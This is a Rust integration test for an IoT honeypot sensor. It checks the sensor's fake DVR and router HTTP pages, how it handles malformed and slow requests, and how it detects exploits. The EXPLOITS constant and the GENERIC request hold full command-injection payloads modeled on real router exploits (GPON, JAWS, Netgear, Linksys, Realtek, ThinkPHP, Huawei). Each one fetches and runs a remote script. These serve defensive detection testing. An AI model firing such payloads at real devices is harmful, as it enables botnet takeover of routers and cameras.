//! HTTP on both transports (issue 8): `curl` fetches the device's pages, a raw socket sends
//! malformed and slow requests, and the IoT exploit requests bots send (written from the
//! public advisories) go to a claimed address (the user-space TCP sessions, through a TUN
//! device) and to a kernel listener, from a namespace the test makes. Every request is an
//! event, each exploit is named, and each URL it carries is a download event.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{enter, have, json_events_once, text, Netns};

const CONFIG: &str = "sensor_id = \"t\"\nprefixes = [\"198.51.100.0/24\"]\n\
    [templates.t]\npersonality = \"linux-2.6\"\ntcp = \"reset\"\nprofile = \"router\"\n\
    [templates.t.ports]\n\"tcp/80\" = \"http\"\n\
    [[bind]]\naddresses = \"198.51.100.7/32\"\ntemplate = \"t\"\nprofile = \"dvr\"\n\
    [limits]\nsession_idle_secs = 30\n\
    [http]\nheader_secs = 2\n\
    [[listen]]\naddress = \"127.0.0.1:8080\"\nservice = \"http\"\nprofile = \"dvr\"\n\
    reported_port = 80\n";

/// Exploit requests as bots send them: the name we expect, the request, the URL in it.
const EXPLOITS: &[(&str, &str, &str)] = &[
    (
        "gpon-diag-form",
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\n\
         Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: Hello, World\r\nContent-Length: BODYLEN\r\n\r\n\
         XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.20/bins/mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0",
        "http://198.51.100.20/bins/mozi.m",
    ),
    (
        "jaws-dvr-shell",
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.20/jaws;sh+/tmp/jaws HTTP/1.1\r\n\
         User-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\nAccept: text/html\r\nConnection: keep-alive\r\n\r\n",
        "http://198.51.100.20/jaws",
    ),
    (
        "netgear-setup-cgi",
        "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.20/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n",
        "http://198.51.100.20/Mozi.m",
    ),
    (
        "linksys-tmunblock",
        "POST /tmUnblock.cgi HTTP/1.1\r\nHost: 198.51.100.7\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Authorization: Basic YWRtaW46YWRtaW4=\r\nContent-Length: BODYLEN\r\n\r\n\
         submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+mpsl%3B+wget+http%3A%2F%2F198.51.100.20%2Fbins%2Fmpsl%3B+chmod+777+mpsl%3B+.%2Fmpsl+linksys%60&StartEPI=1",
        "http://198.51.100.20/bins/mpsl",
    ),
    (
        "realtek-boa-formsyscmd",
        "POST /boafrm/formSysCmd HTTP/1.1\r\nHost: 198.51.100.7\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: BODYLEN\r\n\r\n\
         submit-url=%2Fsyscmd.htm&sysCmd=wget+http%3A%2F%2F203.0.113.5%3A8080%2Fx.sh+-O+%2Ftmp%2Fx.sh%3Bsh+%2Ftmp%2Fx.sh&apply=Run+Command&msg=",
        "http://203.0.113.5:8080/x.sh",
    ),
    (
        "realtek-boa-formwsc",
        "POST /boafrm/formWsc HTTP/1.1\r\nHost: 198.51.100.7\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: BODYLEN\r\n\r\n\
         submit-url=%2Fwlwps.htm&resetUnCfg=0&peerPin=12345678%3Bcd+%2Ftmp%3B+wget+http%3A%2F%2F203.0.113.5%3A8080%2Fwsc.sh%3B+sh+wsc.sh%3B&setPIN=Start+PIN&configVxd=off&resetRptUnCfg=0&peerRptPin=",
        "http://203.0.113.5:8080/wsc.sh",
    ),
    (
        "thinkphp-invokefunction",
        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://203.0.113.5:8080/tp.sh%20-O%20/tmp/x.sh;sh%20/tmp/x.sh HTTP/1.1\r\n\
         Host: 198.51.100.7\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "http://203.0.113.5:8080/tp.sh",
    ),
    (
        "huawei-hg532-upgrade",
        "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: BODYLEN\r\nConnection: keep-alive\r\n\
         Accept: */*\r\nAuthorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\r\n\r\n\
         <?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -O /tmp/hw http://198.51.100.20/bins/hw.mips; sh /tmp/hw)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>",
        "http://198.51.100.20/bins/hw.mips",
    ),
];

/// A command in a parameter of a path no signature knows: the generic rule finds it.
const GENERIC: &str = "POST /cgi-bin/unknown.cgi HTTP/1.1\r\nHost: x\r\n\
    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: BODYLEN\r\n\r\n\
    lang=en&ntp=pool.ntp.org%26%26curl+-o+%2Ftmp%2Fg+http%3A%2F%2F198.51.100.30%2Fgeneric.sh%26%26sh+%2Ftmp%2Fg";

/// The request with its Content-Length filled in where it says BODYLEN.
fn framed(req: &str) -> Vec<u8> {
    let body = req.split("\r\n\r\n").nth(1).unwrap_or("");
    req.replace("BODYLEN", &body.len().to_string()).into_bytes()
}

/// Sends `req` and reads the answer (until the server closes or 2 s of quiet).
fn exchange(addr: &str, req: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    s.write_all(req).unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n) = s.read(&mut buf) {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
        // One response: its head and a body as long as it says.
        if let Some(head) = got.windows(4).position(|w| w == b"\r\n\r\n") {
            let h = String::from_utf8_lossy(&got[..head]).to_ascii_lowercase();
            let len = h
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok());
            if len.is_some_and(|l| got.len() >= head + 4 + l) {
                break;
            }
        }
    }
    text(&got)
}

fn http_events(dir: &std::path::Path, n: usize) -> Vec<serde_json::Value> {
    json_events_once(dir, n, |e| e["event"] == "http")
}

#[test]
fn real_clients_and_exploits_on_both_transports() {
    if !(have("ip") && have("curl")) {
        return;
    }
    let Some(netns) = Netns::with_client(format!("hsht-{}", std::process::id())) else {
        return;
    };
    let ns = netns.0.clone();
    let (sensor, _dir, logs) = common::tun_sensor_with(&ns, "hsht0", CONFIG);
    let curl = |url: &str| -> String {
        let out = Command::new("ip")
            .args(["netns", "exec", &ns, "curl", "-si", "--max-time", "5", url])
            .output()
            .unwrap();
        text(&out.stdout)
    };
    let addrs = ["198.51.100.7:80", "127.0.0.1:8080"];
    for addr in addrs {
        // The DVR's login page, favicon, and a 404 in its server's style.
        let page = curl(&format!("http://{addr}/"));
        assert!(page.starts_with("HTTP/1.1 200 OK\r\n"), "{addr}: {page}");
        assert!(page.contains("Server: uc-httpd 1.0.0\r\n"), "{page}");
        assert!(page.contains("NETSurveillance"), "{page}");
        let icon = curl(&format!("http://{addr}/favicon.ico"));
        assert!(icon.starts_with("HTTP/1.1 200"), "{icon}");
        let missing = curl(&format!("http://{addr}/no/such/page"));
        assert!(missing.starts_with("HTTP/1.1 404"), "{missing}");
    }
    // Another address of the prefix is its template's router.
    let router = curl("http://198.51.100.9/");
    assert!(router.contains("ZXHN H108N"), "{router}");
    let ns2 = ns.clone();
    let answers = std::thread::spawn(move || {
        enter(&ns2);
        let mut answers = Vec::new();
        for addr in addrs {
            // Malformed: a 400 in the device's style, then the connection closes.
            let bad = exchange(addr, b"GET / HTTP/1.1\r\nBad Header\r\n\r\n");
            assert!(bad.starts_with("HTTP/1.1 400"), "{addr}: {bad}");
            // Slow: half a request head, then nothing; the header timer closes it.
            let mut slow = TcpStream::connect(addr).unwrap();
            slow.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            slow.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ").unwrap();
            let t = Instant::now();
            let mut said = Vec::new();
            let _ = slow.read_to_end(&mut said);
            assert!(t.elapsed() < Duration::from_secs(8), "closed by the header timer");
            assert!(said.starts_with(b"HTTP/1.1 408"), "{}", text(&said));
            // Two pipelined requests on one connection, both answered.
            let two = exchange(
                addr,
                b"GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\nGET /robots.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
            );
            assert_eq!(two.matches("HTTP/1.1 200 OK").count(), 2, "{two}");
            for (name, req, _) in EXPLOITS {
                answers.push((addr, *name, exchange(addr, &framed(req))));
            }
            answers.push((addr, "generic", exchange(addr, &framed(GENERIC))));
        }
        answers
    })
    .join()
    .unwrap();
    for (addr, name, answer) in &answers {
        assert!(answer.starts_with("HTTP/1.1 "), "{addr} {name}: {answer}");
    }
    // 2 transports × (3 curl + 1 bad + 1 slow + 2 pipelined + the exploits + the generic
    // one), the router.
    let n = 2 * (3 + 1 + 1 + 2 + EXPLOITS.len() + 1) + 1;
    let evs = http_events(&logs, n);
    let report = sensor.terminate();
    assert!(report.contains("http:"), "{report}");
    let http: Vec<&serde_json::Value> = evs.iter().filter(|e| e["event"] == "http").collect();
    for (name, _, url) in EXPLOITS {
        let seen: Vec<_> = http.iter().filter(|e| e["exploit"] == *name).collect();
        assert_eq!(seen.len(), 2, "{name} once per transport: {http:#?}");
        for e in &seen {
            assert_eq!(e["dst_port"], 80, "both transports log port 80");
            assert_eq!(e["profile"], "dvr");
        }
        let dl: Vec<_> = evs
            .iter()
            .filter(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == *url)
            .collect();
        assert_eq!(dl.len(), 2, "{name}: {url} once per transport");
        assert!(dl.iter().all(|e| e["protocol"] == "http"));
    }
    let generic: Vec<_> = evs
        .iter()
        .filter(|e| {
            e["eventid"] == "cowrie.session.file_download"
                && e["url"] == "http://198.51.100.30/generic.sh"
        })
        .collect();
    assert_eq!(generic.len(), 2, "the generic rule, once per transport");
    assert_eq!(generic[0]["method"], "curl");
    assert_eq!(generic[0]["destfile"], "/tmp/g");
    let errors: Vec<&str> = http.iter().filter_map(|e| e["error"].as_str()).collect();
    assert!(
        errors.iter().filter(|e| e.contains("malformed")).count() == 2,
        "{errors:?}"
    );
    assert!(
        errors.iter().filter(|e| e.contains("incomplete")).count() == 2,
        "{errors:?}"
    );
    let gpon = http
        .iter()
        .find(|e| e["exploit"] == "gpon-diag-form")
        .unwrap();
    assert_eq!(gpon["method"], "POST");
    assert_eq!(gpon["user_agent"], "Hello, World");
    let gpon_body = EXPLOITS[0].1.split("\r\n\r\n").nth(1).unwrap();
    assert_eq!(gpon["body_size"], gpon_body.len());
    assert!(gpon["commands"][0]
        .as_str()
        .unwrap()
        .contains("wget http://198.51.100.20/bins/mozi.m"));
}
